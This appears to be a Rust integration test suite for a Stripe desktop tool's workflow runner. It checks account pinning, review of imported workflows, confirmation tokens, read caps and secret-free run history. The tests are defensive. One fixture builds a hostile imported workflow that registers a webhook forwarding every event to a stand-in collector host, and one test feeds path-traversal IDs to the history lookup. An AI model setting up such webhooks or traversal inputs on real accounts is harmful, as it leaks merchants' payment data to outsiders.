//! Workflows as the window's commands use them (`Desk`), against the local
//! Stripe simulator over real HTTP, with keys in a test keyring: runs go
//! only to the connection and account the person saw; an imported workflow
//! is shown in words and runs only once accepted; a run that must be
//! confirmed runs only with the confirmation shown for it; files are read
//! with a cap; run history stays in its folder, keeps no secrets and is
//! kept for as long as the person chose.

use desk_core::connections::secret_store::MemoryStore;
use desk_core::connections::ExpectedConnection;
use desk_core::desk::{Desk, DeskConfig};
use desk_core::money::NumberFormat;
use desk_core::stripe::ClientConfig;
use desk_core::views::Mode;
use desk_core::workflows::engine::{Outcome, RunRecord, StepState};
use desk_core::workflows::settings::WorkflowSettings;
use desk_core::workflows::store::to_file_bytes;
use desk_core::workflows::Workflow;
use desk_core::{AppError, Bases};
use serde_json::{json, Map, Value};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;
use stripe_sim::{KeyAccess, SimConfig, Simulator};

const SHOP_KEY: &str = "sk_test_51DeskWorkflowShopKey0000000004242";
const SHOP: &str = "acct_1DeskWorkflowShop";
const OTHER_KEY: &str = "sk_test_51DeskWorkflowOtherKey000000001111";
const OTHER: &str = "acct_1DeskWorkflowOther";
const LIVE_KEY: &str = "sk_live_FAKE_desk_workflow_key_2222";
const LIVE: &str = "acct_1DeskWorkflowLive";
const PLATFORM_KEY: &str = "sk_test_51DeskWorkflowPlatform000000003333";
const PLATFORM: &str = "acct_1DeskWorkflowPlatform";

async fn sim() -> Simulator {
    let sim = Simulator::start(SimConfig::bundled()).await.unwrap();
    sim.add_account(SHOP, "Corner Shop");
    sim.add_key(SHOP_KEY, SHOP, KeyAccess::Full);
    sim.add_account(OTHER, "Other Shop");
    sim.add_key(OTHER_KEY, OTHER, KeyAccess::Full);
    sim.add_account(LIVE, "Live Shop");
    sim.add_key(LIVE_KEY, LIVE, KeyAccess::Full);
    sim.add_account(PLATFORM, "Market Platform");
    sim.add_key(PLATFORM_KEY, PLATFORM, KeyAccess::Full);
    sim.add_account("acct_1SellerBakery", "Seller Bakery");
    sim.connect_account(PLATFORM, "acct_1SellerBakery");
    sim.add_account("acct_1SellerFlorist", "Seller Florist");
    sim.connect_account(PLATFORM, "acct_1SellerFlorist");
    sim
}

/// A data dir removed when the test ends, even when it fails.
struct Dir(PathBuf);

impl Dir {
    fn new(label: &str) -> Dir {
        let d = std::env::temp_dir().join(desk_core::stripe::random_token(label));
        std::fs::create_dir_all(&d).unwrap();
        Dir(d)
    }
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn desk(sim: &Simulator, dir: &Path) -> Desk {
    let base = sim.base_url();
    let bases = Bases {
        api: base.clone(),
        connect: base.clone(),
        marketplace: base.clone(),
    };
    let mut cfg = DeskConfig::new(bases, dir.to_path_buf());
    let mut client = ClientConfig::new(&base, &base);
    client.retry.initial_delay = Duration::from_millis(5);
    cfg.client = client;
    Desk::new(cfg, Arc::new(MemoryStore::default())).unwrap()
}

fn fields(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => unreachable!(),
    }
}

fn seen(connection_id: &str, mode: Mode) -> ExpectedConnection {
    ExpectedConnection {
        connection_id: connection_id.into(),
        mode,
    }
}

/// "Create a customer, then change one that is not there": step 2 fails,
/// so the run can be resumed.
fn customer_then_failure() -> Workflow {
    let mut w = Workflow::new("Customer, then a failure");
    w.add_step("create_customer", "create_customer").unwrap();
    w.steps[0].fields = fields(json!({"name": "Jo Baker"}));
    w.add_step("touch_missing", "update_customer").unwrap();
    w.steps[1].fields = fields(json!({"customer": "cus_1Missing", "name": "Nobody"}));
    w
}

fn quiet() -> impl FnMut(&RunRecord) + Send {
    |_: &RunRecord| {}
}

fn no_inputs() -> BTreeMap<String, String> {
    BTreeMap::new()
}

/// Issue 16, item 8: a run carries the connection and mode the person saw.
/// When the active connection changed since (an OAuth flow finishing, a
/// switch), the run and its plan are refused in words naming the account
/// now on screen, and nothing is sent to either account.
#[tokio::test]
async fn a_run_goes_only_to_the_connection_the_person_saw() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-seen");
    let d = desk(&sim, &dir.0);
    let shop = d.save_key_connection(SHOP_KEY, false).await.unwrap().id;
    let other = d.save_key_connection(OTHER_KEY, false).await.unwrap().id;
    d.set_active(&shop).unwrap();
    let w = customer_then_failure();
    d.save_workflow(&w).unwrap();
    let saw_shop = seen(&shop, Mode::Test);
    d.workflow_plan(&w.id, &saw_shop, no_inputs(), None, NumberFormat::POINT)
        .await
        .unwrap();
    // Meanwhile the other connection became the active one.
    d.set_active(&other).unwrap();
    sim.clear_requests();
    let refused = d
        .run_workflow(
            &w.id,
            &saw_shop,
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    let refused = AppError::from(refused);
    assert_eq!(refused.code, "connection_changed");
    assert!(
        refused.message.contains("Other Shop (test mode)"),
        "{}",
        refused.message
    );
    let plan = d
        .workflow_plan(&w.id, &saw_shop, no_inputs(), None, NumberFormat::POINT)
        .await
        .unwrap_err();
    assert_eq!(plan.code(), "connection_changed");
    // The same connection in another mode is not what was seen either.
    let refused = d
        .run_workflow(
            &w.id,
            &seen(&other, Mode::Live),
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "connection_changed");
    assert!(sim.requests().is_empty(), "nothing was sent");
    assert_eq!(
        (sim.count(SHOP, "customers"), sim.count(OTHER, "customers")),
        (0, 0)
    );
    // What the person sees now runs.
    let run = d
        .run_workflow(
            &w.id,
            &seen(&other, Mode::Test),
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap();
    assert_eq!(run.account.name, "Other Shop");
    assert_eq!(sim.count(OTHER, "customers"), 1);
}

/// Issue 16, item 4: a platform key acting on a connected account writes
/// there, and the run says so (not the platform). Changing the account it
/// acts on between Run and Resume: the Resume is refused, naming the
/// account the run wrote to, and nothing is created in the other one.
#[tokio::test]
async fn a_resume_writes_only_to_the_account_the_run_wrote_to() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-override");
    let d = desk(&sim, &dir.0);
    let platform = d.save_key_connection(PLATFORM_KEY, false).await.unwrap().id;
    d.set_account_override(&platform, Some("acct_1SellerBakery"))
        .await
        .unwrap();
    let w = customer_then_failure();
    d.save_workflow(&w).unwrap();
    let saw = seen(&platform, Mode::Test);
    let plan = d
        .workflow_plan(&w.id, &saw, no_inputs(), None, NumberFormat::POINT)
        .await
        .unwrap();
    assert_eq!(plan.account.id, "acct_1SellerBakery");
    assert_eq!(plan.account.name, "Seller Bakery");
    assert_eq!(plan.account.through.as_deref(), Some("Market Platform"));
    let run = d
        .run_workflow(
            &w.id,
            &saw,
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap();
    assert!(matches!(run.outcome, Outcome::Failed { .. }), "{run:?}");
    assert_eq!(run.account.id, "acct_1SellerBakery");
    assert_eq!(run.account.name, "Seller Bakery");
    assert_eq!(
        d.workflow_runs(&w.id).unwrap()[0].account.name,
        "Seller Bakery"
    );
    assert_eq!(sim.count("acct_1SellerBakery", "customers"), 1);
    assert_eq!(sim.count(PLATFORM, "customers"), 0);

    d.set_account_override(&platform, Some("acct_1SellerFlorist"))
        .await
        .unwrap();
    let refused = d
        .resume_workflow(
            &w.id,
            &run.run_id,
            &saw,
            None,
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    let refused = AppError::from(refused);
    assert_eq!(refused.code, "wrong_account");
    assert!(
        refused.message.contains("Seller Bakery"),
        "{}",
        refused.message
    );
    assert_eq!(sim.count("acct_1SellerFlorist", "customers"), 0);
    assert_eq!(sim.count("acct_1SellerBakery", "customers"), 1);
}

/// A workflow file from someone else: a request to any endpoint that sends
/// every future event to a stranger.
fn strangers_file(dir: &Path) -> PathBuf {
    let mut w = Workflow::new("Handy helper");
    w.add_step("create_customer", "create_customer").unwrap();
    w.steps[0].fields = fields(json!({"name": "Helper"}));
    w.add_step("listen", "any_endpoint").unwrap();
    w.steps[1].fields = fields(json!({
        "method": "POST",
        "path": "/v1/webhook_endpoints",
        "params": [
            {"key": "url", "value": "https://collector.example/hook"},
            {"key": "enabled_events[0]", "value": "*"},
        ],
    }));
    let path = dir.join("handy-helper.json");
    std::fs::write(&path, to_file_bytes(&w).unwrap()).unwrap();
    path
}

/// Issue 16, item 2: an imported workflow is saved not yet reviewed and
/// shown step by step (a request to any endpoint with its method, whole
/// path and parameters, and what it sends out of the account). It does
/// not run, and saving it does not mark it reviewed, until the person
/// accepts it. A step that sends data out asks again, in test mode too,
/// and runs only with the confirmation shown for it, once.
#[tokio::test]
async fn an_imported_workflow_is_shown_in_words_and_runs_only_once_accepted_and_confirmed() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-import");
    let d = desk(&sim, &dir.0);
    let shop = d.save_key_connection(SHOP_KEY, false).await.unwrap().id;
    let saw = seen(&shop, Mode::Test);
    let review = d.import_workflow(&strangers_file(&dir.0)).unwrap();
    assert!(!review.workflow.reviewed);
    let listen = &review.steps[1];
    assert_eq!(
        (listen.method.as_str(), listen.path.as_str()),
        ("POST", "/v1/webhook_endpoints")
    );
    let params: Vec<(&str, &str)> = listen
        .params
        .iter()
        .map(|p| (p.name.as_str(), p.value.as_str()))
        .collect();
    assert_eq!(
        params,
        [
            ("url", "https://collector.example/hook"),
            ("enabled_events[0]", "*")
        ]
    );
    assert!(
        listen.moves_out.as_deref().unwrap().contains("every event"),
        "{listen:?}"
    );
    assert_eq!(review.steps[0].title, "Create Customer");
    let id = review.workflow.id.clone();

    sim.clear_requests();
    let refused = d
        .run_workflow(
            &id,
            &saw,
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "workflow_not_reviewed");
    // The window cannot mark it reviewed by saving it.
    let mut edited = review.workflow.clone();
    edited.reviewed = true;
    d.save_workflow(&edited).unwrap();
    assert!(!d.workflow_review(&id).unwrap().workflow.reviewed);
    let refused = d
        .run_workflow(
            &id,
            &saw,
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "workflow_not_reviewed");
    assert!(sim.requests().is_empty(), "nothing was sent");

    assert!(d.accept_workflow(&id).unwrap().reviewed);
    let plan = d
        .workflow_plan(&id, &saw, no_inputs(), None, NumberFormat::POINT)
        .await
        .unwrap();
    assert!(!plan.account.livemode);
    assert_eq!(plan.moves_out.len(), 1, "{plan:?}");
    assert!(
        plan.moves_out[0].starts_with("Step 2 (Request to any endpoint) sends every event"),
        "{}",
        plan.moves_out[0]
    );
    assert!(
        plan.moves_out[0].ends_with("POST /v1/webhook_endpoints."),
        "{}",
        plan.moves_out[0]
    );
    let token = plan.confirmation.clone().expect("asks in test mode too");
    // Without it, or with a made-up one: refused, nothing sent.
    for wrong in [None, Some("confirm_made_up")] {
        let refused = d
            .run_workflow(
                &id,
                &saw,
                no_inputs(),
                NumberFormat::POINT,
                wrong,
                &mut quiet(),
            )
            .await
            .unwrap_err();
        assert_eq!(AppError::from(refused).code, "confirmation_needed");
    }
    assert!(sim.requests().is_empty(), "nothing was sent");
    let run = d
        .run_workflow(
            &id,
            &saw,
            no_inputs(),
            NumberFormat::POINT,
            Some(&token),
            &mut quiet(),
        )
        .await
        .unwrap();
    assert!(
        matches!(run.steps[0].state, StepState::Done { .. }),
        "{run:?}"
    );
    assert!(sim
        .requests()
        .iter()
        .any(|r| r.method == "POST" && r.path == "/v1/webhook_endpoints"));
    // Once only.
    let refused = d
        .run_workflow(
            &id,
            &saw,
            no_inputs(),
            NumberFormat::POINT,
            Some(&token),
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "confirmation_needed");
}

/// Issue 16, item 2 (last point): a live run is refused by the backend
/// unless the window passes the confirmation it was shown for that
/// workflow, those inputs, that connection and mode. The plan lists each
/// write with its whole path and its parameters, inputs as typed.
#[tokio::test]
async fn a_live_run_needs_the_confirmation_shown_for_it() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-live");
    let d = desk(&sim, &dir.0);
    let live = d.save_key_connection(LIVE_KEY, false).await.unwrap().id;
    let saw = seen(&live, Mode::Live);
    let w = desk_core::workflows::templates::product_with_price();
    d.save_workflow(&w).unwrap();
    let typed = |amount: &str| {
        BTreeMap::from([
            ("product_name".to_owned(), "Coffee club".to_owned()),
            ("monthly_amount".to_owned(), amount.to_owned()),
        ])
    };
    let plan = d
        .workflow_plan(&w.id, &saw, typed("12.50"), None, NumberFormat::POINT)
        .await
        .unwrap();
    assert!(plan.account.livemode);
    let writes: Vec<(&str, &str)> = plan
        .writes
        .iter()
        .map(|s| (s.method.as_str(), s.path.as_str()))
        .collect();
    assert_eq!(writes, [("POST", "/v1/products"), ("POST", "/v1/prices")]);
    let price = &plan.writes[1].params;
    assert!(
        price
            .iter()
            .any(|p| p.name == "unit_amount" && p.value == "12.50 USD"),
        "{price:?}"
    );
    assert!(
        price
            .iter()
            .any(|p| p.name == "product" && p.value == "[Step 1, Create Product → ID]"),
        "{price:?}"
    );
    assert!(plan.writes[0]
        .params
        .iter()
        .any(|p| p.name == "Name" && p.value == "Coffee club"));
    let token = plan
        .confirmation
        .clone()
        .expect("live writes are confirmed");

    sim.clear_requests();
    let refused = d
        .run_workflow(
            &w.id,
            &saw,
            typed("12.50"),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "confirmation_needed");
    // Shown for 12.50, run with 99.00: not what was confirmed.
    let refused = d
        .run_workflow(
            &w.id,
            &saw,
            typed("99.00"),
            NumberFormat::POINT,
            Some(&token),
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "confirmation_stale");
    assert!(sim.requests().is_empty(), "nothing was sent");
    let token = d
        .workflow_plan(&w.id, &saw, typed("12.50"), None, NumberFormat::POINT)
        .await
        .unwrap()
        .confirmation
        .unwrap();
    let run = d
        .run_workflow(
            &w.id,
            &saw,
            typed("12.50"),
            NumberFormat::POINT,
            Some(&token),
            &mut quiet(),
        )
        .await
        .unwrap();
    assert_eq!(run.outcome, Outcome::Succeeded, "{run:?}");
    assert_eq!(sim.count(LIVE, "prices"), 1);
}

/// Issue 16, item 9 and 5: a workflow file is read with a cap (a file
/// picked by mistake, `/dev/zero`, is refused unread), and a workflow has
/// at most 100 steps: the limit is said in words where it is hit.
#[tokio::test]
async fn imports_and_checks_are_bounded_and_say_their_limit() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-bounds");
    let d = desk(&sim, &dir.0);
    let big = dir.0.join("big.json");
    std::fs::write(&big, vec![b' '; 2 * 1024 * 1024]).unwrap();
    let refused = d.import_workflow(&big).unwrap_err();
    assert!(
        refused.plain_message().contains("bigger than 1 MB"),
        "{}",
        refused.plain_message()
    );
    let started = std::time::Instant::now();
    let refused = d.import_workflow(Path::new("/dev/zero")).unwrap_err();
    assert!(refused.plain_message().contains("bigger than 1 MB"));
    assert!(started.elapsed() < Duration::from_secs(5));

    let mut long = Workflow::new("Long");
    for i in 0..101 {
        long.add_step(&format!("step_{i}"), "list_products")
            .unwrap();
    }
    let problems = d.check_workflow(&long);
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(
        problems[0].reason,
        "A workflow has at most 100 steps; this one has 101. Split it into smaller workflows."
    );
    let refused = d.save_workflow(&long).unwrap_err();
    assert!(refused.plain_message().contains("at most 100 steps"));
    let file = dir.0.join("long.json");
    std::fs::write(&file, to_file_bytes(&long).unwrap()).unwrap();
    let refused = d.import_workflow(&file).unwrap_err();
    assert!(
        refused
            .plain_message()
            .contains("at most 100 steps; this one has 101"),
        "{}",
        refused.plain_message()
    );
    assert!(d.list_workflows().unwrap().workflows.is_empty());

    // As many inputs as a person could fill in, and no more.
    let mut asking = Workflow::new("Asking");
    for i in 0..51 {
        asking
            .add_input(
                &format!("input_{i}"),
                &format!("Input {i}"),
                desk_core::workflows::model::InputKind::Text,
            )
            .unwrap();
    }
    asking.add_step("list", "list_products").unwrap();
    let problems = d.check_workflow(&asking);
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(
        problems[0].reason,
        "A workflow asks for at most 50 inputs; this one asks for 51."
    );
    let refused = d.save_workflow(&asking).unwrap_err();
    assert!(refused.plain_message().contains("at most 50 inputs"));
    assert!(d.list_workflows().unwrap().workflows.is_empty());
}

/// Issue 16, item 6: run history is listed only for a workflow ID: `..`
/// and absolute paths name no folder.
#[tokio::test]
async fn run_history_is_listed_only_inside_its_folder() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-history-path");
    let d = desk(&sim, &dir.0);
    let shop = d.save_key_connection(SHOP_KEY, false).await.unwrap().id;
    let w = customer_then_failure();
    d.save_workflow(&w).unwrap();
    d.run_workflow(
        &w.id,
        &seen(&shop, Mode::Test),
        no_inputs(),
        NumberFormat::POINT,
        None,
        &mut quiet(),
    )
    .await
    .unwrap();
    // A copy of the run's folder outside the data dir.
    let outside = Dir::new("wf-desk-outside");
    let runs = dir.0.join("workflows/runs").join(&w.id);
    for f in std::fs::read_dir(&runs).unwrap().flatten() {
        std::fs::copy(f.path(), outside.0.join(f.file_name())).unwrap();
    }
    assert_eq!(d.workflow_runs(&w.id).unwrap().len(), 1);
    let up = format!("../runs/{}", w.id);
    for id in [outside.0.to_str().unwrap(), up.as_str(), "..", "wf_1/../.."] {
        let refused = d.workflow_runs(id).unwrap_err();
        assert_eq!(refused.code(), "not_found", "{id}");
    }
}

/// Issue 16, item 7: run history keeps no secret (a card number, a key
/// typed into a field, a field Stripe marks secret) and is kept for as long
/// as the person chose: 90 days unless changed.
#[tokio::test]
async fn run_history_keeps_no_secrets_and_only_as_long_as_chosen() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-history");
    let d = desk(&sim, &dir.0);
    let shop = d.save_key_connection(SHOP_KEY, false).await.unwrap().id;
    let mut w = Workflow::new("Customer with a note");
    w.add_step("create_customer", "create_customer").unwrap();
    w.steps[0].fields = fields(json!({
        "name": "Jo Baker",
        "description": "4242 4242 4242 4242",
        "metadata": [{"key": "client_secret", "value": "pi_3Abc_secret_XyZ"}],
    }));
    d.save_workflow(&w).unwrap();
    let run = d
        .run_workflow(
            &w.id,
            &seen(&shop, Mode::Test),
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap();
    assert_eq!(run.outcome, Outcome::Succeeded, "{run:?}");
    // Shown as the run goes (Stripe has them), never written.
    assert_eq!(
        run.output("create_customer").unwrap()["description"],
        "4242 4242 4242 4242"
    );
    let on_disk: String = std::fs::read_dir(dir.0.join("workflows/runs").join(&w.id))
        .unwrap()
        .flatten()
        .filter(|f| f.path().extension().is_some_and(|e| e == "json"))
        .map(|f| std::fs::read_to_string(f.path()).unwrap())
        .collect();
    for secret in ["4242 4242 4242 4242", "pi_3Abc_secret_XyZ"] {
        assert!(!on_disk.contains(secret), "{secret} was written");
    }
    let kept = &d.workflow_runs(&w.id).unwrap()[0];
    assert_eq!(
        kept.output("create_customer").unwrap()["description"],
        "...4242 (hidden)"
    );

    // Kept 90 days unless changed; older runs go.
    assert_eq!(d.workflow_settings().run_history_days, 90);
    let file = std::fs::read_dir(dir.0.join("workflows/runs").join(&w.id))
        .unwrap()
        .flatten()
        .find(|f| f.path().extension().is_some_and(|e| e == "json"))
        .unwrap()
        .path();
    let mut record: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    let now = desk_core::workflows::engine::system_clock();
    record["run"]["started_at"] = json!(now - 40 * 24 * 3600);
    std::fs::write(&file, record.to_string()).unwrap();
    assert_eq!(
        d.workflow_runs(&w.id).unwrap().len(),
        1,
        "40 days old, kept for 90"
    );
    let refused = d
        .set_workflow_settings(WorkflowSettings {
            run_history_days: 0,
        })
        .unwrap_err();
    assert!(refused.plain_message().contains("1 to 3650 days"));
    d.set_workflow_settings(WorkflowSettings {
        run_history_days: 30,
    })
    .unwrap();
    assert_eq!(d.workflow_settings().run_history_days, 30);
    assert!(
        d.workflow_runs(&w.id).unwrap().is_empty(),
        "older than 30 days"
    );
    assert!(!file.exists());
}

/// Issue 15, item 7: a step that carries no tags (an update) is said, before
/// any run, not to be checkable after 24 hours. A Resume that would send it
/// again more than a day after it went unanswered is listed in the plan and
/// runs only with the confirmation shown for it.
#[tokio::test]
async fn an_untagged_step_is_said_before_the_run_and_resent_only_when_confirmed() {
    let sim = sim().await;
    let dir = Dir::new("wf-desk-unchecked");
    let d = desk(&sim, &dir.0);
    let shop = d.save_key_connection(SHOP_KEY, false).await.unwrap().id;
    let saw = seen(&shop, Mode::Test);
    let mut w = Workflow::new("Rename a customer");
    w.add_step("rename", "update_customer").unwrap();
    let customer = reqwest::Client::new()
        .post(format!("{}/v1/customers", sim.base_url()))
        .bearer_auth(SHOP_KEY)
        .form(&[("name", "Jo Baker")])
        .send()
        .await
        .unwrap()
        .json::<Value>()
        .await
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    w.steps[0].fields = fields(json!({"customer": customer, "name": "Jo Again"}));
    d.save_workflow(&w).unwrap();
    let notes = d.workflow_words(&w).notes;
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(notes[0].note.contains("only within 24 hours"), "{notes:?}");
    let plan = d
        .workflow_plan(&w.id, &saw, no_inputs(), None, NumberFormat::POINT)
        .await
        .unwrap();
    assert!(
        plan.unchecked[0].starts_with("Step 1 (Update Customer) cannot be checked after 24 hours"),
        "{plan:?}"
    );
    assert!(
        plan.confirmation.is_none(),
        "a test-mode update asks nothing"
    );

    // No answer ever comes (every retry dropped); then a day passes.
    sim.fail_next(3, stripe_sim::Failure::DropConnection);
    let run = d
        .run_workflow(
            &w.id,
            &saw,
            no_inputs(),
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap();
    assert!(matches!(run.outcome, Outcome::Failed { .. }), "{run:?}");
    let file = dir
        .0
        .join("workflows/runs")
        .join(&w.id)
        .join(format!("{}.json", run.run_id));
    let mut record: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    let day_ago = desk_core::workflows::engine::system_clock() - 25 * 3600;
    record["run"]["steps"][0]["first_tried_at"] = json!(day_ago);
    std::fs::write(&file, record.to_string()).unwrap();

    let plan = d
        .workflow_plan(
            &w.id,
            &saw,
            no_inputs(),
            Some(&run.run_id),
            NumberFormat::POINT,
        )
        .await
        .unwrap();
    assert_eq!(plan.resend_unchecked.len(), 1, "{plan:?}");
    assert!(
        plan.resend_unchecked[0].starts_with("Step 1 (Update Customer) may already have been done")
    );
    let token = plan.confirmation.expect("asked again");
    sim.clear_requests();
    let refused = d
        .resume_workflow(
            &w.id,
            &run.run_id,
            &saw,
            None,
            NumberFormat::POINT,
            None,
            &mut quiet(),
        )
        .await
        .unwrap_err();
    assert_eq!(AppError::from(refused).code, "confirmation_needed");
    assert!(sim.requests().is_empty(), "nothing was sent");
    let resumed = d
        .resume_workflow(
            &w.id,
            &run.run_id,
            &saw,
            None,
            NumberFormat::POINT,
            Some(&token),
            &mut quiet(),
        )
        .await
        .unwrap();
    assert_eq!(resumed.outcome, Outcome::Succeeded, "{resumed:?}");
}
